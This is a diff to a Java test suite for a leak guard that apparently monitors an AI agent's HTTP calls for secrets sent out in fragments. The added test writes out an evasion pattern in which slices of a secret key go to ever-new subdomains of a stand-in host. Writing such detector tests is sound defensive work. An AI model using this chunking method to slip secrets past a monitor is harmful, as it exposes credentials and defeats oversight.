@@ -175,7 +175,7 @@ class LeakGuardSecondTryTest {
         Optional<Decision> last = guard.evaluate(Calls.httpGet(run, "https://status.example.com/p?q=" + pieces[3]));
 
         assertThat(last).get().extracting(Decision::rule).isEqualTo(GuardRules.LEAK_SECRET);
-        assertThat(last.get().reason()).contains("earlier calls").contains("status.example.com").doesNotContain(KEY);
+        assertThat(last.get().reason()).contains("earlier calls").contains("http_host example.com").doesNotContain(KEY);
     }
 
     @Test
@@ -203,7 +203,7 @@ class LeakGuardSecondTryTest {
         String b = KEY.substring(11);
 
         assertThat(guard.evaluate(Calls.httpGet(first, "https://status.example.com/p?q=" + a))).isEmpty();
-        assertThat(guard.evaluate(Calls.httpGet(first, "https://other.example.com/p?q=" + b))).isEmpty();
+        assertThat(guard.evaluate(Calls.httpGet(first, "https://other.example.org/p?q=" + b))).isEmpty();
         assertThat(guard.evaluate(Calls.httpGet(second, "https://status.example.com/p?q=" + b))).isEmpty();
     }
 
@@ -215,5 +215,18 @@ class LeakGuardSecondTryTest {
         for (String q : queries) {
             assertThat(guard.evaluate(Calls.httpGet(run, "https://api.weather.example/v1/forecast?" + q))).as(q).isEmpty();
         }
+    }
+
+    @Test
+    void piecesSentToEverNewSubdomainsOfOneDomainAddUp() {
+        Calls.Run run = Calls.Run.of("Check the status page");
+        Optional<Decision> decision = Optional.empty();
+        for (int i = 0; i < KEY.length() && decision.isEmpty(); i += 4) {
+            decision = guard.evaluate(Calls.httpGet(run, "https://n" + i + ".cdn.status-example.com/p/" + KEY.substring(i,
+                    Math.min(KEY.length(), i + 4))));
+        }
+
+        assertThat(decision).get().extracting(Decision::rule).isEqualTo(GuardRules.LEAK_SECRET);
+        assertThat(decision.get().reason()).contains("status-example.com");
     }
 }
